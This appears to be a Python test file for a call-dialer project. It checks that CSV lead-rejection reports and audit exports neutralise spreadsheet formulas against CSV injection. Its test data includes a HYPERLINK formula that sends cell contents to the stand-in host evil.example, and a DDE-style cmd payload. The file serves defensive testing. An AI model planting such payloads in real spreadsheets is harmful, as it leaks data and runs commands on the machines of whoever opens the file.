"""Issue 10 item 4: CSV exports neutralise spreadsheet formulas (OWASP CSV injection).

Before the fix, ``=HYPERLINK(...)`` and ``@SUM(A1)`` typed into a lead file came back verbatim in
``<stem>.rejected.csv``, and so did an audit event's fields in ``dialer audit export --format csv``:
a spreadsheet opening either would run them.
"""

from __future__ import annotations

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from dialer.audit import record_event
from dialer.audit.export import export_events
from dialer.csv_cells import safe_cell
from tests.dialer.test_lead_service import make_campaign, run

NOW = datetime(2026, 11, 23, 17, 0, tzinfo=UTC)
LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        (LINK, "'" + LINK),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("+1-555-0101", "'+1-555-0101"),  # a spreadsheet would compute it
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("+15551234567", "+15551234567"),  # E.164: a plain number, usable as is
        ("-42", "-42"),
        ("-3.5", "-3.5"),
        ("Ava = lead", "Ava = lead"),  # only the first character counts
        ("", ""),
        (17, 17),
        (None, None),
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_quoted_and_numbers_stay_numbers(raw, written):
    assert safe_cell(raw) == written


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def test_the_rejected_rows_report_writes_formulas_as_text(db, tmp_path):
    make_campaign(db)
    source = tmp_path / "leads.csv"
    with source.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["first_name", "phone"])
        writer.writerows(
            [["Mallory", LINK], ["Eve", "@SUM(A1)"], ["Ivan", "+1555123"], ["Ava", "+13125550101"]]
        )
    result = run(db, source)
    db.commit()  # the report is put in place when the import commits
    assert result.leads_created == 1
    rows = _read(tmp_path / "leads.rejected.csv")
    assert [r[:3] for r in rows[1:]] == [
        ["2", "phone", "'" + LINK],
        ["3", "phone", "'@SUM(A1)"],
        ["4", "phone", "+1555123"],  # the user's digits as typed, still a number to a spreadsheet
    ]


def test_the_audit_csv_export_writes_formulas_as_text(db, tmp_path):
    record_event(db, kind="@SUM(A1)", occurred_at=NOW, actor=LINK, payload={"phone": "+13125550101"})
    export_events(db, tmp_path / "audit.csv", fmt="csv")
    header, row = _read(tmp_path / "audit.csv")
    cells = dict(zip(header, row, strict=True))
    assert cells["kind"] == "'@SUM(A1)" and cells["actor"] == "'" + LINK
    assert cells["payload"] == '{"phone": "+13125550101"}'
